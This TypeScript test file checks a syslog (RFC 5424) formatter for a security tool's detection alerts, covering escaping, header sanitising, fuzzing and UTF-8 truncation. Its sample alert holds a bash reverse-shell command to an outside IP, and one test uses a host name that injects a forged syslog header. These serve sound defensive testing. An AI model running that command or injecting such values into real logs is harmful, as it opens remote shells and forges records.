import { test } from 'node:test';
import assert from 'node:assert/strict';
import { escapeSdValue, formatRfc5424, SYSLOG_SEVERITY, truncateUtf8 } from './rfc5424.ts';
import { hostileAlert, rng, sampleAlert } from './testing/alerts.ts';
import { parseRfc5424 } from './testing/parse-rfc5424.ts';

const OPTS = { facility: 16, sdId: 'daemoneye@32473', format: 'rfc5424', version: '1.0.0' } as const;

test('a plain alert, byte for byte', () => {
  const a = sampleAlert({ alert_uuid: '00000000-0000-4000-8000-000000000001' });
  assert.equal(formatRfc5424(a, OPTS),
    '<131>1 2026-03-01T10:00:05.123Z web-01 daemoneye - DE-LNX-0001 [daemoneye@32473 alert_uuid="00000000-0000-4000-8000-000000000001" ' +
    'rule_id="DE-LNX-0001" rule_version="3" severity="high" attack_ids="T1059.004,T1071" tags="execution,command_and_control,linux" ' +
    'host="web-01" pid="4242" process_name="bash" executable_path="/usr/bin/bash" command_line="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" ' +
    'occurrences="1" first_seen="2026-03-01T10:00:05.123Z" last_seen="2026-03-01T10:00:05.123Z"] Reverse shell: bash -i with its stdin on a TCP socket');
});

test('PRI: facility * 8 + severity (low notice, medium warning, high err, critical crit)', () => {
  assert.deepEqual(SYSLOG_SEVERITY, { low: 5, medium: 4, high: 3, critical: 2 });
  for (const [s, n] of Object.entries(SYSLOG_SEVERITY)) {
    assert.equal(parseRfc5424(formatRfc5424(sampleAlert({ severity: s as 'low' }), { ...OPTS, facility: 4 })).pri, 4 * 8 + n);
  }
});

test('SD-PARAM values escape ", \\ and ] (RFC 5424 section 6.3.3)', () => {
  assert.equal(escapeSdValue('a"b\\c]d[e'), 'a\\"b\\\\c\\]d[e');
});

test('header fields are printable ASCII: a hostile host name is made safe, and kept exactly in SD', () => {
  const a = sampleAlert({ host: 'evil host\n<1>1 - - -', rule_id: 'R ULE' });
  const m = parseRfc5424(formatRfc5424(a, OPTS));
  assert.equal(m.hostname, 'evil_host_<1>1_-_-_-');
  assert.equal(m.msgId, 'R_ULE');
  assert.equal(m.sd['daemoneye@32473']?.['host'], a.host);
});

test('fuzz: 500 hostile alerts parse back to the same SD values and MSG', () => {
  const next = rng(5424);
  for (let i = 0; i < 500; i++) {
    const a = hostileAlert(next, i % 50 === 0);
    const m = parseRfc5424(formatRfc5424(a, OPTS));
    const p = m.sd['daemoneye@32473']!;
    for (const k of ['host', 'process_name', 'executable_path', 'command_line'] as const) {
      assert.equal(p[k], a[k]?.toWellFormed(), `case ${i}: ${k}`);
    }
    assert.equal(p['alert_uuid'], a.alert_uuid);
    assert.equal(m.msg, `${a.rule_name}: ${a.summary}`.toWellFormed(), `case ${i}: MSG`);
  }
});

test('fuzz: with a size limit, messages fit, stay valid UTF-8 and RFC 5424, and keep alert_uuid', () => {
  const next = rng(480);
  for (let i = 0; i < 300; i++) {
    const a = hostileAlert(next, i % 3 === 0);
    const maxBytes = 480 + Math.floor(next() * 9000);
    for (const format of ['rfc5424', 'cef'] as const) {
      const text = formatRfc5424(a, { ...OPTS, format, maxBytes });
      assert.ok(Buffer.byteLength(text) <= maxBytes, `case ${i}: ${Buffer.byteLength(text)} > ${maxBytes}`);
      assert.equal(Buffer.from(text, 'utf8').toString('utf8'), text);
      assert.equal(parseRfc5424(text).sd['daemoneye@32473']?.['alert_uuid'], a.alert_uuid, `case ${i}`);
    }
  }
});

test('truncateUtf8 cuts at a character boundary', () => {
  assert.equal(truncateUtf8('a€b', 3), 'a');
  assert.equal(truncateUtf8('a€b', 4), 'a€');
  assert.equal(truncateUtf8('🦀', 3), '');
  assert.equal(truncateUtf8('abc', -1), '');
});
